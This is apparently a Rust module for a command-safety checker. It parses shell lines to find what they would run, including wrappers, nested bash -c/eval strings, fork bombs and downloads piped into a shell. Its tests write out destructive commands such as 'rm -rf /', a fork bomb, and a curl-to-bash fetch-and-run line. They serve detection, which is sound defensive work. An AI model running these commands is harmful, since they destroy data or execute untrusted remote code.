//! A shell command line as the commands it would run.
//!
//! The line is parsed by brush-parser (a bash grammar), never matched as a
//! string: quoting, escaping, `&&`/`||`/`;`/pipes, subshells, braces, loops,
//! functions, command and process substitutions are all seen through. Words
//! are reduced to what the shell would pass (quotes removed; `~`, `$HOME`
//! and `${HOME}` become `~`; what cannot be known stays `$NAME`), and the
//! strings that `bash -c`, `sh -c` and `eval` run are parsed in turn.

use brush_parser::ast::{
    self, Command, CommandPrefixOrSuffixItem, CompoundCommand, CompoundList, IoFileRedirectKind, IoFileRedirectTarget, IoRedirect,
    SeparatorOperator,
};
use brush_parser::word::{Parameter, ParameterExpr, TildeExpr, WordPiece, WordPieceWithSource};
use brush_parser::{ParserOptions, parse_tokens, tokenize_str};

/// How deep `bash -c "eval '...'"` may nest before the rest is not read.
const MAX_DEPTH: usize = 8;

/// One simple command, as it would run.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Cmd {
    /// The words after quote removal, wrappers (`sudo`, `env`, ...) kept.
    pub argv: Vec<String>,
    /// Files it writes through redirections (`>`, `>>`, `&>`).
    pub writes: Vec<String>,
    /// Files it reads through redirections (`<`).
    pub reads: Vec<String>,
    /// The pipeline it belongs to, and its place there.
    pub pipeline: usize,
    pub stage: usize,
    /// Runs in the background (`&`).
    pub background: bool,
    /// An argument came from a command or process substitution that
    /// downloads (`bash <(curl ...)`, `sh -c "$(wget -O- ...)"`).
    pub runs_download: bool,
    /// The directory a `cd` earlier in the same line moved to, if any.
    pub cwd: Option<String>,
}

/// A function defined by the line, and whether it calls itself in a
/// pipeline or in the background (the shape of a fork bomb).
#[derive(Debug, Clone, PartialEq)]
pub struct Function {
    pub name: String,
    pub forks_itself: bool,
}

/// Everything a line would run.
#[derive(Debug, Clone, Default)]
pub struct Script {
    pub cmds: Vec<Cmd>,
    pub functions: Vec<Function>,
    /// The line (or a string it runs) is not valid shell.
    pub unparsed: bool,
}

impl Script {
    /// The commands of pipeline `p`, in order.
    pub fn pipeline(&self, p: usize) -> impl Iterator<Item = &Cmd> {
        self.cmds.iter().filter(move |c| c.pipeline == p)
    }
}

/// Parses `line`.
pub fn parse(line: &str) -> Script {
    let mut w = Walker { script: Script::default(), pipelines: 0, cwd: None, depth: 0, vars: Default::default() };
    w.line(line);
    w.script
}

struct Walker {
    script: Script,
    pipelines: usize,
    cwd: Option<String>,
    depth: usize,
    /// Variables the line itself sets (`d=/`, `for d in /`): name -> value.
    vars: std::collections::HashMap<String, String>,
}

fn options() -> ParserOptions {
    ParserOptions::default()
}

impl Walker {
    fn line(&mut self, line: &str) {
        if self.depth > MAX_DEPTH {
            return;
        }
        self.depth += 1;
        let program = tokenize_str(line).ok().and_then(|tokens| parse_tokens(&tokens, &options()).ok());
        match program {
            Some(p) => {
                for list in &p.complete_commands {
                    self.list(list, false);
                }
            }
            None => self.script.unparsed = true,
        }
        self.depth -= 1;
    }

    fn list(&mut self, list: &CompoundList, background: bool) {
        for ast::CompoundListItem(and_or, sep) in &list.0 {
            let bg = background || matches!(sep, SeparatorOperator::Async);
            self.pipeline(&and_or.first, bg);
            for next in &and_or.additional {
                let (ast::AndOr::And(p) | ast::AndOr::Or(p)) = next;
                self.pipeline(p, bg);
            }
        }
    }

    fn pipeline(&mut self, p: &ast::Pipeline, background: bool) {
        let id = self.pipelines;
        self.pipelines += 1;
        for (stage, cmd) in p.seq.iter().enumerate() {
            self.command(cmd, id, stage, background);
        }
    }

    fn command(&mut self, cmd: &Command, pipeline: usize, stage: usize, background: bool) {
        match cmd {
            Command::Simple(s) => self.simple(s, pipeline, stage, background),
            Command::Compound(c, redirects) => {
                self.compound(c, background);
                if let Some(r) = redirects {
                    let mut holder = Cmd { pipeline, stage, background, ..Cmd::default() };
                    for io in &r.0 {
                        self.redirect(io, &mut holder);
                    }
                    if !holder.writes.is_empty() || !holder.reads.is_empty() {
                        self.script.cmds.push(holder);
                    }
                }
            }
            Command::Function(f) => {
                let name = f.fname.value.clone();
                let before = self.script.cmds.len();
                self.compound(&f.body.0, background);
                // A fork bomb calls itself piped or in the background.
                let forks_itself = self.script.cmds[before..].iter().any(|c| {
                    c.argv.first() == Some(&name)
                        && (c.background || self.script.cmds[before..].iter().filter(|o| o.pipeline == c.pipeline).count() > 1)
                });
                self.script.functions.push(Function { name, forks_itself });
            }
            Command::ExtendedTest(..) => {}
        }
    }

    fn compound(&mut self, c: &CompoundCommand, background: bool) {
        match c {
            CompoundCommand::BraceGroup(b) => self.list(&b.list, background),
            CompoundCommand::Subshell(s) => {
                // A subshell's `cd` does not leak out of it.
                let cwd = self.cwd.clone();
                self.list(&s.list, background);
                self.cwd = cwd;
            }
            CompoundCommand::ForClause(f) => {
                // The body once per value the loop takes (a few suffice).
                let mut scratch = Cmd::default();
                let values: Vec<String> = f.values.iter().flatten().take(16).map(|w| self.word(w, &mut scratch)).collect();
                if values.is_empty() {
                    self.list(&f.body.list, background);
                }
                for v in values {
                    self.vars.insert(f.variable_name.clone(), v);
                    self.list(&f.body.list, background);
                }
                self.vars.remove(&f.variable_name);
            }
            CompoundCommand::ArithmeticForClause(f) => self.list(&f.body.list, background),
            CompoundCommand::CaseClause(c) => {
                for item in &c.cases {
                    if let Some(cmd) = &item.cmd {
                        self.list(cmd, background);
                    }
                }
            }
            CompoundCommand::IfClause(i) => {
                self.list(&i.condition, background);
                self.list(&i.then, background);
                for e in i.elses.iter().flatten() {
                    if let Some(c) = &e.condition {
                        self.list(c, background);
                    }
                    self.list(&e.body, background);
                }
            }
            CompoundCommand::WhileClause(w) | CompoundCommand::UntilClause(w) => {
                self.list(&w.0, background);
                self.list(&w.1.list, background);
            }
            CompoundCommand::Coprocess(c) => self.command(&c.body, self.pipelines, 0, true),
            CompoundCommand::Arithmetic(_) => {}
        }
    }

    fn simple(&mut self, s: &ast::SimpleCommand, pipeline: usize, stage: usize, background: bool) {
        let mut cmd = Cmd { pipeline, stage, background, cwd: self.cwd.clone(), ..Cmd::default() };
        let prefix = s.prefix.iter().flat_map(|p| &p.0).map(|i| (i, true));
        let suffix = s.suffix.iter().flat_map(|p| &p.0).map(|i| (i, false));
        let mut words: Vec<&ast::Word> = Vec::new();
        // Process substitutions stand as `/dev/fd/N` among the words.
        let mut fds: Vec<usize> = Vec::new();
        if let Some(w) = &s.word_or_name {
            words.push(w);
        }
        for (item, in_prefix) in prefix.chain(suffix) {
            match item {
                CommandPrefixOrSuffixItem::IoRedirect(io) => self.redirect(io, &mut cmd),
                CommandPrefixOrSuffixItem::Word(w) => words.push(w),
                // Before the command an assignment sets its environment (its
                // substitutions still run); after it (`export A=b`) it is an
                // argument.
                CommandPrefixOrSuffixItem::AssignmentWord(a, w) if in_prefix => {
                    let value = match &a.value {
                        ast::AssignmentValue::Scalar(v) => self.word(v, &mut cmd),
                        ast::AssignmentValue::Array(_) => self.word(w, &mut cmd),
                    };
                    // `d=/; rm -rf $d`: a bare assignment sets the variable.
                    if s.word_or_name.is_none()
                        && let ast::AssignmentName::VariableName(name) = &a.name
                    {
                        self.vars.insert(name.clone(), value);
                    }
                }
                CommandPrefixOrSuffixItem::AssignmentWord(_, w) => words.push(w),
                CommandPrefixOrSuffixItem::ProcessSubstitution(_, sub) => {
                    let downloads = self.nested(&sub.list);
                    cmd.runs_download |= downloads;
                    fds.push(sub.loc.start.index);
                }
            }
        }
        // In source order: the command word, then its arguments.
        let mut ordered: Vec<(usize, Option<&ast::Word>)> =
            words.into_iter().map(|w| (w.loc.as_ref().map(|l| l.start.index).unwrap_or(usize::MAX), Some(w))).collect();
        ordered.extend(fds.into_iter().map(|at| (at, None)));
        ordered.sort_by_key(|(at, _)| *at);
        for (_, w) in ordered {
            let v = match w {
                Some(w) => self.word(w, &mut cmd),
                None => "/dev/fd/63".into(),
            };
            cmd.argv.push(v);
        }
        let inner = strip_wrappers(&cmd.argv);
        match inner.first().map(String::as_str) {
            Some("cd") | Some("pushd") => {
                self.cwd = Some(inner.get(1).cloned().unwrap_or_else(|| "~".into()));
            }
            Some(sh) if is_shell(sh) => {
                if let Some(i) = inner.iter().position(|a| a == "-c" || (a.starts_with('-') && !a.starts_with("--") && a.contains('c')))
                    && let Some(script) = inner.get(i + 1)
                {
                    let script = script.clone();
                    self.script.cmds.push(cmd.clone());
                    self.line(&script);
                    return;
                }
            }
            Some("eval") => {
                let script = inner[1..].join(" ");
                self.script.cmds.push(cmd.clone());
                self.line(&script);
                return;
            }
            _ => {}
        }
        self.script.cmds.push(cmd);
    }

    fn redirect(&mut self, io: &IoRedirect, cmd: &mut Cmd) {
        match io {
            IoRedirect::File(_, kind, IoFileRedirectTarget::Filename(w)) => {
                let target = self.word(w, cmd);
                match kind {
                    IoFileRedirectKind::Write
                    | IoFileRedirectKind::Append
                    | IoFileRedirectKind::Clobber
                    | IoFileRedirectKind::ReadAndWrite => cmd.writes.push(target),
                    IoFileRedirectKind::Read => cmd.reads.push(target),
                    _ => {}
                }
            }
            IoRedirect::File(_, _, IoFileRedirectTarget::ProcessSubstitution(_, sub)) => {
                cmd.runs_download |= self.nested(&sub.list);
            }
            IoRedirect::OutputAndError(w, _) => {
                let target = self.word(w, cmd);
                cmd.writes.push(target);
            }
            IoRedirect::HereString(_, w) => {
                let _ = self.word(w, cmd);
            }
            _ => {}
        }
    }

    /// Walks a substitution's commands; true when one of them downloads.
    fn nested(&mut self, list: &CompoundList) -> bool {
        let before = self.script.cmds.len();
        let cwd = self.cwd.clone();
        self.list(list, false);
        self.cwd = cwd;
        self.script.cmds[before..].iter().any(downloads)
    }

    /// A word as the shell would pass it.
    fn word(&mut self, w: &ast::Word, cmd: &mut Cmd) -> String {
        match brush_parser::word::parse(&w.value, &options()) {
            Ok(pieces) => {
                let mut out = String::new();
                self.pieces(&pieces, &mut out, cmd);
                out
            }
            Err(_) => w.value.clone(),
        }
    }

    fn pieces(&mut self, pieces: &[WordPieceWithSource], out: &mut String, cmd: &mut Cmd) {
        for p in pieces {
            match &p.piece {
                WordPiece::Text(t) | WordPiece::SingleQuotedText(t) | WordPiece::AnsiCQuotedText(t) => out.push_str(t),
                WordPiece::EscapeSequence(e) => out.push_str(e.strip_prefix('\\').unwrap_or(e)),
                WordPiece::DoubleQuotedSequence(inner) | WordPiece::GettextDoubleQuotedSequence(inner) => self.pieces(inner, out, cmd),
                WordPiece::TildeExpansion(TildeExpr::Home) => out.push('~'),
                WordPiece::TildeExpansion(TildeExpr::UserHome(u)) => {
                    out.push('~');
                    out.push_str(u);
                }
                WordPiece::TildeExpansion(_) => out.push('.'),
                WordPiece::ParameterExpansion(e) => {
                    let v = parameter(e);
                    match v.strip_prefix('$').and_then(|n| self.vars.get(n)) {
                        Some(known) => out.push_str(known),
                        None => out.push_str(&v),
                    }
                }
                WordPiece::CommandSubstitution(s) | WordPiece::BackquotedCommandSubstitution(s) => {
                    let before = self.script.cmds.len();
                    let cwd = self.cwd.clone();
                    self.line(s);
                    self.cwd = cwd;
                    if self.script.cmds[before..].iter().any(downloads) {
                        cmd.runs_download = true;
                    }
                    out.push_str("$(...)");
                }
                WordPiece::ArithmeticExpression(_) => out.push('0'),
            }
        }
    }
}

/// `$HOME` is `~`, `$PWD` is `.`; any other variable is unknown.
fn parameter(e: &ParameterExpr) -> String {
    let (p, guarded) = match e {
        ParameterExpr::Parameter { parameter, .. }
        | ParameterExpr::UseDefaultValues { parameter, .. }
        | ParameterExpr::AssignDefaultValues { parameter, .. } => (parameter, false),
        // `${VAR:?}` stops the line when VAR is empty or unset: the guard
        // against `rm -rf "$VAR/"` becoming `rm -rf /`, kept visible.
        ParameterExpr::IndicateErrorIfNullOrUnset { parameter, .. } => (parameter, true),
        _ => return "$?".into(),
    };
    match p {
        Parameter::Named(n) if n == "HOME" => "~".into(),
        Parameter::Named(n) if n == "PWD" => ".".into(),
        Parameter::Named(n) if guarded => format!("${{{n}:?}}"),
        Parameter::Named(n) => format!("${n}"),
        _ => "$?".into(),
    }
}

pub fn is_shell(name: &str) -> bool {
    let base = name.rsplit('/').next().unwrap_or(name);
    matches!(base, "sh" | "bash" | "zsh" | "dash" | "ksh" | "mksh" | "fish" | "ash" | "busybox")
}

/// A command that fetches from the network.
pub fn downloads(c: &Cmd) -> bool {
    let argv = strip_wrappers(&c.argv);
    let base = argv.first().map(|a| a.rsplit('/').next().unwrap_or(a)).unwrap_or_default();
    matches!(base, "curl" | "wget" | "fetch" | "aria2c" | "http" | "https" | "xh" | "lwp-download" | "GET")
        || (base == "python" || base == "python3") && argv.iter().any(|a| a.contains("urlopen") || a.contains("requests.get"))
        || c.runs_download
}

/// The command a wrapper runs: `sudo -u x env A=b nice -n 5 rm ...` is `rm ...`.
pub fn strip_wrappers(argv: &[String]) -> &[String] {
    let mut i = 0;
    while i < argv.len() {
        let base = argv[i].rsplit('/').next().unwrap_or(&argv[i]);
        // How many following words belong to the wrapper (its options and
        // their values); `None` when this is not a wrapper.
        let skip = |takes_value: &[&str]| {
            let mut j = i + 1;
            while j < argv.len() && argv[j].starts_with('-') && argv[j] != "--" {
                if takes_value.contains(&argv[j].as_str()) {
                    j += 1;
                }
                j += 1;
            }
            if argv.get(j).map(String::as_str) == Some("--") {
                j += 1;
            }
            j
        };
        i = match base {
            "sudo" | "doas" => skip(&["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U"]),
            "env" => {
                let mut j = skip(&["-u", "-C", "-S"]);
                while j < argv.len() && argv[j].contains('=') {
                    j += 1;
                }
                j
            }
            "nice" | "ionice" | "chrt" | "taskset" => skip(&["-n", "-c", "-p"]),
            "nohup" | "time" | "command" | "builtin" | "exec" | "unbuffer" | "caffeinate" => skip(&[]),
            "stdbuf" => skip(&["-i", "-o", "-e"]),
            "timeout" => {
                let j = skip(&["-s", "-k", "--signal", "--kill-after"]);
                j + 1 // the duration
            }
            "watch" => skip(&["-n", "-d"]),
            "xargs" => skip(&["-I", "-n", "-P", "-L", "-d", "-E", "-s", "-a"]),
            "parallel" => skip(&["-j"]),
            _ => return &argv[i..],
        };
    }
    &argv[argv.len()..]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argvs(line: &str) -> Vec<Vec<String>> {
        parse(line).cmds.into_iter().map(|c| c.argv).collect()
    }

    #[test]
    fn quotes_escapes_and_home_are_resolved() {
        assert_eq!(argvs(r#"rm -rf "$HOME""#), vec![vec!["rm", "-rf", "~"]]);
        assert_eq!(argvs(r"rm -rf ${HOME}/ \/"), vec![vec!["rm", "-rf", "~/", "/"]]);
        assert_eq!(argvs("echo 'rm -rf /'"), vec![vec!["echo", "rm -rf /"]]);
    }

    #[test]
    fn strings_that_shells_run_are_parsed_too() {
        let all = argvs(r#"bash -c "cd /tmp && eval 'rm -rf ~'""#);
        assert!(all.contains(&vec!["rm".to_string(), "-rf".into(), "~".into()]), "{all:?}");
    }

    #[test]
    fn wrappers_are_seen_through() {
        let argv: Vec<String> =
            ["sudo", "-u", "root", "env", "A=1", "nice", "-n", "5", "rm", "-rf", "/"].iter().map(|s| s.to_string()).collect();
        assert_eq!(strip_wrappers(&argv), &argv[8..]);
    }

    #[test]
    fn a_fork_bomb_is_a_function_that_forks_itself() {
        assert!(parse(":(){ :|:& };:").functions.iter().any(|f| f.forks_itself));
        assert!(!parse("greet() { echo hi; }; greet").functions.iter().any(|f| f.forks_itself));
    }

    #[test]
    fn downloads_run_by_a_shell_are_marked() {
        let s = parse("bash <(curl -fsSL https://x.example/i.sh)");
        assert!(s.cmds.iter().any(|c| c.runs_download && c.argv[0] == "bash"), "{:?}", s.cmds);
    }
}
